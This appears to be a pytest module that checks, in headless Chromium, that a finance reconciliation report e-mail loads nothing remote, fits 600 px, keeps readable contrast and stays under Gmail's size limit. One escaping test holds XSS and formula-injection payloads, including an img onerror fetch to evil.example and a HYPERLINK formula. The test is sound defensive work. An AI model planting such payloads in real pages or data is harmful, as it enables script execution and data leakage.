"""The HTML report, rendered in a real headless browser: Debian's chromium, driven by Playwright.

The report is an e-mail a finance analyst reads at 8 am, often on a phone: it must fetch
nothing, run nothing, read at 600 px without scrolling sideways, stay legible in dark mode,
show hostile partner strings as text and stay under Gmail's clipping size however bad the
night. The demo's report is made once per module, and one browser serves every test.

Chromium comes from the system (`make browser` installs it), never from `playwright install`.
Screenshots land in `test-artifacts/` (gitignored) for a human to look at.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request, sync_playwright

from recon.demo import DemoResult, run_demo
from recon.history import History
from recon.report import EMAIL_BYTES, TREND_NIGHTS, Report, build, render_html
from tests.nights import CURRENCIES, record_nights

DAY = date(2026, 4, 14)
WIDTH = 600  # the e-mail's design width, and a phone's in landscape
ARTIFACTS = Path(__file__).resolve().parents[1] / "test-artifacts"
GMAIL_CLIPS_AT = 102_000  # bytes of HTML; past this Gmail hides the rest behind a link
LAUNCH_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
]


# -- fixtures -------------------------------------------------------------------------------


MISSING_CHROMIUM = (
    "the report's browser tests need chromium: run `make browser` (as root) to install Debian's, "
    "or point $RECON_CHROMIUM at a chromium binary"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser | None]:
    """Debian's chromium (or $RECON_CHROMIUM), one for the module. Without one this yields
    None and every test fails in `opened`: a missing browser is a failure, never a skip."""
    path = os.environ.get("RECON_CHROMIUM") or shutil.which("chromium")
    if not path:
        yield None
        return
    with sync_playwright() as p:
        launched = p.chromium.launch(executable_path=path, args=LAUNCH_ARGS)
        try:
            yield launched
        finally:
            launched.close()


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> DemoResult:
    return run_demo(tmp_path_factory.mktemp("demo"))


@pytest.fixture
def model(demo: DemoResult) -> Report:
    """A fresh report model of the demo night, for a test to doctor."""
    history = History(demo.config_file.parent / "var" / "recon.duckdb")
    return build(history, DAY)


# -- helpers --------------------------------------------------------------------------------


@dataclass
class Seen:
    """What a page did while it was open."""

    requests: list[str] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


@contextmanager
def opened(
    browser: Browser | None, path: Path, scheme: str = "light", width: int = WIDTH
) -> Iterator[tuple[Page, Seen]]:
    """`path` loaded from its file:// URL at `width` px; anything leaving the machine is
    aborted (and so shows up in both `requests` and `failed`), never really sent."""
    if browser is None:
        pytest.fail(MISSING_CHROMIUM, pytrace=False)
    page = browser.new_page(
        viewport={"width": width, "height": 800}, color_scheme=scheme, java_script_enabled=True
    )
    seen = Seen()

    def request(r: Request) -> None:
        seen.requests.append(r.url)

    def failed(r: Request) -> None:
        seen.failed.append(f"{r.url}: {r.failure}")

    def dialog(d: Dialog) -> None:
        seen.dialogs.append(f"{d.type}: {d.message}")
        d.dismiss()

    page.on("request", request)
    page.on("requestfailed", failed)
    page.on("dialog", dialog)
    page.on("pageerror", lambda e: seen.errors.append(str(e)))
    page.route(lambda url: not url.startswith("file:"), lambda route: route.abort())
    try:
        page.goto(path.as_uri(), wait_until="load")
        page.wait_for_load_state("networkidle")
        yield page, seen
    finally:
        page.close()


def write_html(model: Report, folder: Path) -> Path:
    path = folder / "report.html"
    path.write_text(render_html(model), encoding="utf-8")
    return path


# Every computed property (of each element and its generated ::before/::after) with a url().
STYLE_URLS_JS = """() => {
  const found = [];
  for (const el of document.querySelectorAll("*")) {
    for (const pseudo of [null, "::before", "::after"]) {
      const style = getComputedStyle(el, pseudo);
      if (pseudo && style.content === "none") continue;  // not generated: loads nothing
      for (let i = 0; i < style.length; i++) {
        const value = style.getPropertyValue(style[i]);
        if (value.includes("url(")) {
          found.push(`${el.tagName}${pseudo || ""} ${style[i]}: ${value}`);
        }
      }
    }
  }
  return found;
}"""

# Each element with text of its own: that text, its colour, the colour it sits on (the first
# opaque background up its ancestors), and whether WCAG counts it as large. An argument, a
# selector, looks only inside what it selects.
TEXT_COLOURS_JS = """(root) => {
  const opaque = (c) => !/^rgba\\(.*, 0\\)$/.test(c) && c !== "transparent";
  const rows = [];
  for (const el of document.querySelector(root || "body").querySelectorAll("*")) {
    const own = [...el.childNodes].filter((n) => n.nodeType === 3).map((n) => n.data).join("");
    if (!own.trim() || !el.getClientRects().length) continue;
    const style = getComputedStyle(el);
    let back = el, bg = "rgb(255, 255, 255)";
    while (back) {
      const c = getComputedStyle(back).backgroundColor;
      if (opaque(c)) { bg = c; break; }
      back = back.parentElement;
    }
    const size = parseFloat(style.fontSize), bold = parseInt(style.fontWeight, 10) >= 700;
    rows.push({text: own.trim().slice(0, 40), color: style.color, background: bg,
               large: size >= 24 || (size >= 18.66 && bold)});
  }
  return rows;
}"""


def rgb(css: str) -> tuple[int, int, int]:
    values = re.findall(r"[\d.]+", css)
    assert css.startswith("rgb") and len(values) in (3, 4), css
    assert len(values) == 3 or float(values[3]) == 1, f"translucent colour {css}"
    r, g, b = (round(float(v)) for v in values[:3])
    return r, g, b


def luminance(colour: tuple[int, int, int]) -> float:
    """WCAG 2 relative luminance of an sRGB colour."""

    def linear(channel: int) -> float:
        c = channel / 255
        return c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4

    r, g, b = (linear(c) for c in colour)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


def contrast(a: str, b: str) -> float:
    """WCAG contrast ratio of two computed CSS colours, 1 to 21."""
    light, dark = sorted((luminance(rgb(a)), luminance(rgb(b))), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def computed(page: Page, selector: str, prop: str) -> str:
    return page.eval_on_selector(selector, f"e => getComputedStyle(e).{prop}")


# -- the demo night's report ----------------------------------------------------------------


def test_report_fetches_nothing_and_fits_600px(browser: Browser | None, demo: DemoResult) -> None:
    """From a file:// URL at 600 px the report requests nothing but itself, carries no script,
    remote image, stylesheet link or CSS url(), and needs no horizontal scrolling."""
    with opened(browser, demo.report) as (page, seen):
        assert seen.requests == [demo.report.as_uri()]
        assert seen.failed == []
        assert page.locator("script").count() == 0
        remote = page.eval_on_selector_all(
            "img", "imgs => imgs.map(i => i.getAttribute('src') || '')"
        )
        assert [src for src in remote if not src.startswith(("data:", "cid:"))] == []
        assert page.locator("link[rel~=stylesheet i]").count() == 0
        assert page.evaluate(STYLE_URLS_JS) == []
        assert page.evaluate("document.documentElement.scrollWidth") <= WIDTH


def test_verdict_heading_is_the_summary_verdict_above_the_fold(
    browser: Browser | None, demo: DemoResult
) -> None:
    """The h1 says exactly summary.json's verdict, visible within the first 300 px."""
    verdict = json.loads((demo.report.parent / "summary.json").read_text("utf-8"))["verdict"]
    with opened(browser, demo.report) as (page, _):
        heading = page.locator("h1")
        assert heading.count() == 1
        assert heading.inner_text().strip() == verdict
        assert heading.is_visible()
        box = heading.bounding_box()
        assert box is not None
        assert box["y"] + box["height"] < 300, box


def test_screenshots_and_dark_mode_keeps_text_readable(
    browser: Browser | None, demo: DemoResult
) -> None:
    """Full-page screenshots at 600 px, light and dark, go to test-artifacts/; in dark mode the
    card turns dark and its text keeps a WCAG contrast of at least 4.5:1 against it."""
    ARTIFACTS.mkdir(exist_ok=True)
    colours = {}
    for scheme, name in (("light", "report-600.png"), ("dark", "report-600-dark.png")):
        with opened(browser, demo.report, scheme) as (page, _):
            page.screenshot(path=str(ARTIFACTS / name), full_page=True)
            colours[scheme] = {
                "card": computed(page, ".card", "backgroundColor"),
                "card text": computed(page, ".card", "color"),
                "body text": computed(page, "body", "color"),
            }
        assert (ARTIFACTS / name).stat().st_size > 10_000
    assert colours["dark"]["card"] != colours["light"]["card"], colours
    for scheme, c in colours.items():
        for text in ("card text", "body text"):
            assert contrast(c[text], c["card"]) >= 4.5, (scheme, text, c)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_contrasts_with_its_background(
    browser: Browser | None, demo: DemoResult, scheme: str
) -> None:
    """Every piece of text meets WCAG AA against what it sits on (4.5:1, 3:1 when large)."""
    with opened(browser, demo.report, scheme) as (page, _):
        rows = page.evaluate(TEXT_COLOURS_JS)
    assert rows
    poor = sorted(
        {
            f"{row['text']!r}: {row['color']} on {row['background']} = {ratio:.2f}"
            for row in rows
            if (ratio := contrast(row["color"], row["background"])) < (3 if row["large"] else 4.5)
        }
    )
    assert not poor, "\n".join(poor)


# -- doctored report models -----------------------------------------------------------------

IMG = "<img src=x onerror=\"fetch('http://evil.example/')\">"
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example","x")'
NOTE = 'ack"><b>not bold</b>'
SVG = "<svg onload=alert(2)>"


def test_hostile_strings_render_as_text(
    browser: Browser | None, model: Report, tmp_path: Path
) -> None:
    """Markup in partner references, details and notes shows literally: nothing runs, nothing
    is fetched, no element is injected."""
    shown, explained = model.open, model.explained
    assert len(shown) >= 2 and explained
    shown[0].update(reference=IMG, detail=SCRIPT)
    shown[1].update(reference=FORMULA, detail=SVG)
    explained[0]["note"] = NOTE
    with opened(browser, write_html(model, tmp_path)) as (page, seen):
        text = page.inner_text("body")
        for hostile in (IMG, SCRIPT, FORMULA, NOTE, SVG):
            assert hostile in text
            assert page.get_by_text(hostile).first.is_visible(), hostile
        assert page.locator("img, script, svg").count() == 0
        assert page.locator("b", has_text="not bold").count() == 0
        assert seen.dialogs == []
        assert seen.errors == []
        assert [url for url in seen.requests if "evil.example" in url] == []
        assert seen.requests == [(tmp_path / "report.html").as_uri()]


# A ledger's own entry id can be a hash: 64 characters with nowhere to break a line.
UNBROKEN = hashlib.sha256(b"LE-4051").hexdigest()


@pytest.mark.parametrize(
    "column",
    [
        "reference",
        "detail",
        "note",
        "entry_id",
    ],
)
def test_long_unbroken_strings_wrap_within_600px(
    browser: Browser | None, model: Report, tmp_path: Path, column: str
) -> None:
    """A partner string with no break opportunity wraps instead of widening the page."""
    row = {"note": model.explained[0], "entry_id": model.quarantine[0]}.get(column, model.open[0])
    row[column] = UNBROKEN
    with opened(browser, write_html(model, tmp_path)) as (page, _):
        assert UNBROKEN in page.inner_text("body")
        assert page.evaluate("document.documentElement.scrollWidth") <= WIDTH


def test_every_explained_break_is_listed_or_counted(
    browser: Browser | None, model: Report, tmp_path: Path
) -> None:
    """Each explained break is listed under 'Explained', or counted in an 'and N more' line."""
    for finding in [f for f in model.open if f["check"] != "stuck_pending"][:10]:
        finding.update(state="acknowledged", note="booked late, known")
    explained = model.explained
    assert len(explained) == 11
    with opened(browser, write_html(model, tmp_path)) as (page, _):
        section = page.locator("xpath=//div[starts-with(normalize-space(.), 'Explained ·')]/..")
        text = section.inner_text()
    listed = [f for f in explained if (f["order_id"] or f["ledger_entry_id"] or f["key"]) in text]
    more = [int(n) for n in re.findall(r"and (\d+) more", text)]
    assert len(listed) + sum(more) == len(explained), text


def test_ten_thousand_findings_stay_under_gmails_clipping(
    browser: Browser | None, model: Report, tmp_path: Path
) -> None:
    """10,000 open breaks render under 102,000 bytes, load without a request, tell the reader
    how many more are in the CSV, and the verdict counts them all."""
    # A wallet's floor is checked once per currency a night: keep the demo's as they are and
    # multiply the breaks about orders and movements, which can come by the thousand.
    wallets = [f for f in model.open if f["check"] == "low_wallet_balance"]
    templates = [f for f in model.open if f["check"] != "low_wallet_balance"]
    bulk = []
    for n in range(10_000 - len(wallets)):
        finding = dict(templates[n % len(templates)])
        finding.update(
            key=f"bulk_{n:05d}",
            order_id=f"ord_bulk_{n:05d}",
            break_id=f"x{n:011d}",
            state="new" if n % 3 else "persisting",
        )
        bulk.append(finding)
    breaks = [*bulk, *wallets]
    assert len(breaks) == 10_000
    assert len({f["check"] for f in breaks}) >= 5 and len({f["currency"] for f in breaks}) >= 3
    model.findings = [*breaks, *model.explained]
    errors = sum(1 for f in breaks if f["severity"] == "error")
    warnings = sum(1 for f in breaks if f["severity"] == "warning")

    html = render_html(model)
    assert len(html.encode("utf-8")) <= GMAIL_CLIPS_AT
    path = tmp_path / "report.html"
    path.write_text(html, encoding="utf-8")
    with opened(browser, path) as (page, seen):
        assert seen.requests == [path.as_uri()]
        assert seen.failed == []
        text = page.inner_text("body")
        verdict = page.locator("h1").inner_text().strip()
    more = [int(n) for n in re.findall(r"and (\d+) more in the attached CSV", text)]
    listed = set(re.findall(r"\bbreak ([0-9a-z]{12})\b", text))
    assert more, "no 'and N more in the attached CSV' line"
    assert len(listed) + sum(more) == len(breaks)
    assert verdict.startswith(f"{errors} breaks, net drift "), verdict
    assert verdict.endswith(f"; {warnings} warnings"), verdict


def test_the_wallet_panel_and_the_canary_read_at_600px(
    browser: Browser | None, demo: DemoResult
) -> None:
    """Near the verdict: the canary's 48-hour line, and a row per wallet with summary.json's
    balance, spend and days left, the short one marked, all inside 600 px."""
    summary = json.loads((demo.report.parent / "summary.json").read_text("utf-8"))
    with opened(browser, demo.report) as (page, _):
        canary = page.get_by_text("Canary not met")
        assert canary.is_visible()
        panel = page.locator("#wallets")
        box = panel.bounding_box()
        assert box is not None and box["x"] + box["width"] <= WIDTH, box
        rows = panel.locator("tr").all_inner_texts()[1:]
        assert [row.split()[0] for row in rows] == sorted(summary["wallets"])
        for row, (currency, wallet) in zip(rows, sorted(summary["wallets"].items()), strict=True):
            words = row.replace(",", "").split()
            assert wallet["balance"] in words and wallet["days_left"] in words, (currency, row)
        short = [c for c, w in summary["wallets"].items() if w["short"]]
        assert short == ["EUR"]
        eur = panel.locator("tr", has_text="EUR").locator(".sev-warning")
        assert eur.inner_text() == summary["wallets"]["EUR"]["days_left"]
        alert = page.get_by_text("Wallet runs out soon:")
        assert alert.is_visible()
        alert_box, canary_box = alert.bounding_box(), canary.bounding_box()
        assert alert_box is not None and canary_box is not None and alert_box["y"] < 600


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_likely_cause_leads_the_report_at_600px(
    browser: Browser | None, model: Report, tmp_path: Path, scheme: str
) -> None:
    """A night recon.causes finds misconfigured: the cause, with its key, under the verdict and
    above the fold, readable in both schemes, and the path it quotes rendered as text."""
    model.run["causes"] = [
        {
            "cause": "file",
            "key": "ledger.path",
            "rows": 22,
            "text": f"22 of 23 Starship orders of the day are not in the export: is '{IMG}' "
            "the export of this date?",
        }
    ]
    path = write_html(model, tmp_path)
    with opened(browser, path, scheme) as (page, seen):
        heading = page.locator("h1")
        assert heading.inner_text().startswith("Likely a setting (ledger.path): ")
        cause = page.get_by_text("Likely cause:")
        assert cause.is_visible()
        box, top = cause.bounding_box(), heading.bounding_box()
        assert box is not None and top is not None
        assert top["y"] < box["y"] < 600 and box["x"] + box["width"] <= WIDTH, box
        paragraph = page.locator("p", has_text="Likely cause:")
        assert IMG in paragraph.inner_text()  # the quoted path is text, never markup
        assert page.locator("img").count() == 0 and seen.requests == [path.as_uri()]
        colour, background = (
            computed(page, "p.caution", "color"),
            computed(page, "p.caution", "backgroundColor"),
        )
    assert contrast(colour, background) >= 4.5, (scheme, colour, background)


# Each column of the trend's chart, oldest night first: the height and width of its error and
# warning bars (0 when it has none), and of the bars of each currency's drift above and below
# its line, signed as the drift is.
TREND_BARS_JS = """() => {
  const size = (el) => el ? [el.getBoundingClientRect().width, el.getBoundingClientRect().height]
                          : [0, 0];
  const rows = [...document.querySelectorAll("#trend-chart tr")];
  const columns = [...rows[0].cells].slice(1).map((td) => ({
    error: size(td.querySelector(".bar")), warning: size(td.querySelector(".bar-warning")),
    drift: {},
  }));
  for (const row of rows) {
    if (!row.classList.contains("drift")) continue;
    const cells = [...row.cells];
    if (row.getAttribute("valign") === "bottom") {
      const currency = cells.shift().textContent.trim();
      cells.forEach((td, i) => { columns[i].drift[currency] = size(td.querySelector("div"))[1]; });
      row.dataset.currency = currency;
    } else {
      const currency = row.previousElementSibling.previousElementSibling.dataset.currency;
      cells.forEach((td, i) => {
        const below = size(td.querySelector("div"))[1];
        if (below) columns[i].drift[currency] = -below;
      });
    }
  }
  return columns;
}"""


@pytest.fixture(scope="module")
def month(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of the last of 30 nights of breaks in six currencies."""
    folder = tmp_path_factory.mktemp("month")
    history = History(folder / "recon.duckdb")
    record_nights(history, DAY, TREND_NIGHTS, currencies=CURRENCIES, seed=7)
    path = write_html(build(history, DAY), folder)
    assert len(path.read_bytes()) <= EMAIL_BYTES
    return path


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [WIDTH, 1280])
def test_the_trend_draws_every_night_and_reads_as_text(
    browser: Browser | None, month: Path, scheme: str, width: int
) -> None:
    """30 nights at 600 and 1280 px, light and dark: the chart fits without scrolling
    sideways, a night with unexplained breaks or drift has a bar one can see, hidden from
    screen readers, the table beside it says the same figures, and all of it is readable."""
    model = build(History(month.parent / "recon.duckdb"), DAY)
    ARTIFACTS.mkdir(exist_ok=True)
    with opened(browser, month, scheme, width) as (page, seen):
        assert seen.requests == [month.as_uri()]
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        chart = page.locator("#trend-chart")
        box = chart.bounding_box()
        assert box is not None and box["width"] <= WIDTH - 32, box
        assert chart.get_attribute("aria-hidden") == "true"
        columns = page.evaluate(TREND_BARS_JS)
        numbers = page.locator("#trend-numbers tr").all_inner_texts()[1:]
        texts = page.evaluate(TEXT_COLOURS_JS, "#trend")
        bars = {
            name: computed(page, selector, "backgroundColor")
            for name, selector in (
                ("error", "#trend-chart .bar"),
                ("warning", "#trend-chart .bar-warning"),
                ("drift", "#trend-chart .drift div"),
            )
        }
        card = computed(page, ".card", "backgroundColor")
        page.locator("#trend").screenshot(path=str(ARTIFACTS / f"trend-{width}-{scheme}.png"))

    assert len(columns) == len(numbers) == len(model.trend) == TREND_NIGHTS
    for night, column, text in zip(model.trend, columns, numbers, strict=True):
        for severity in ("error", "warning"):
            bar_width, height = column[severity]
            assert (bar_width > 0 and height > 0) == bool(night[f"unexplained_{severity}s"]), (
                night["run_date"],
                severity,
                column,
            )
        drift = night["unexplained_drift"]
        drawn = {c: h for c, h in column["drift"].items() if h}
        assert {c: h > 0 for c, h in drawn.items()} == {c: v > 0 for c, v in drift.items() if v}
        cells = text.split("\t")
        assert cells[:3] == [
            str(night["run_date"]),
            str(night["unexplained_errors"]),
            str(night["unexplained_warnings"]),
        ], text
        for currency in drift:
            assert currency in cells[3], (currency, text)
    assert texts and any(row["text"] == str(model.trend[-1]["run_date"]) for row in texts)
    poor = sorted(
        f"{row['text']!r}: {row['color']} on {row['background']} = {ratio:.2f}"
        for row in texts
        if (ratio := contrast(row["color"], row["background"])) < (3 if row["large"] else 4.5)
    )
    assert not poor, "\n".join(poor)
    for name, colour in bars.items():  # a graphic's parts need 3:1 against what they sit on
        assert contrast(colour, card) >= 3, (scheme, name, colour, card)
